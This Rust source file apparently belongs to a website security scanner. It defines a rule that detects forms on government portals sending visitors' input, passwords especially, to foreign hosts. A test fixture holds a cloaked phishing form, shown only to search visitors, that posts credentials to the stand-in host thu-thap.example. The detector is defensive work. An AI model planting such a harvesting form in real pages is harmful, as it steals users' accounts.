//! `foreign-form`: what visitors type goes to somebody else.

use std::sync::Arc;

use super::{
    Answer, Example, Hit, Observation, Proof, Rule,
    destination::{identity_signal, signals_to},
};
use crate::{
    finding::{Family, Signal, SignalKind, Text},
    page::Form,
};

pub(super) const RULE: Rule = Rule {
    id: "foreign-form",
    family: Family::Script,
    what: Text {
        vi: "Biểu mẫu trên cổng gửi dữ liệu người đọc nhập, nhất là mật khẩu, tới máy chủ lạ.",
        en: "A form on the portal that sends what visitors type, passwords above all, to a foreign host.",
    },
    why: Text {
        vi: "Kẻ tấn công thu thập tài khoản và dữ liệu cá nhân dưới danh nghĩa cơ quan nhà nước.",
        en: "Attackers collect accounts and personal data in the agency's name.",
    },
    repair: Text {
        vi: "Gỡ biểu mẫu hoặc sửa thuộc tính action; nếu là dịch vụ đăng nhập của cơ quan thì khai báo máy chủ vào danh sách tin cậy; báo người dùng đổi mật khẩu.",
        en: "Remove the form or mend its action; if it is the agency's own sign-in service, vouch for its host; tell users to change passwords.",
    },
    examine,
    caught: &[Example::page(
        "a sign-in that only visitors from a search result get",
        &[
            Answer::all("<body><h1>UBND huyện</h1></body>"),
            Answer::only(
                &[crate::identity::Identity::FromSearch],
                r#"<body><h1>UBND huyện</h1><form action="https://thu-thap.example/a.php" method="post"><input name="u"><input name="p" type="password"></form></body>"#,
            ),
        ],
    )],
    clean: &[
        Example::page(
            "the portal's own sign-in",
            &[Answer::all(
                r#"<body><form action="/dang-nhap" method="post"><input type="password" name="p"></form></body>"#,
            )],
        ),
        Example::page(
            "search by a search engine, newsletter by a mail service",
            &[Answer::all(
                r#"<body><form action="https://www.google.com/search"><input name="q"></form><form action="https://thu-tin.example/subscribe"><input name="email"></form></body>"#,
            )],
        ),
    ],
};

fn examine(observation: &Observation<'_>, hits: &mut Vec<Hit>) {
    for (identity, page) in observation.pages() {
        for form in &page.forms {
            let Some(url) = &form.action else { continue };
            let Some(host) = url.host_str() else { continue };
            let Some(mut signals) = signals_to(observation, url) else { continue };
            if observation.is_sibling(url) || !observation.knows_where() {
                continue;
            }
            if form.password {
                signals.push(Signal::new(SignalKind::Hijack, "password"));
            }
            let other_page = identity_signal(observation, identity, |other| {
                other.forms.iter().any(|own| sends_to(own, host))
            });
            signals.extend(other_page.filter(|_| form.password));
            if signals.iter().all(|signal| signal.kind == SignalKind::Host) {
                continue;
            }
            hits.push(Hit {
                key: host.to_owned(),
                subject: url.to_string(),
                identity,
                signals,
                proof: Proof::Element(Arc::clone(page), form.spot.clone()),
            });
        }
    }
}

fn sends_to(form: &Form, host: &str) -> bool {
    form.action.as_ref().is_some_and(|url| url.host_str() == Some(host))
}
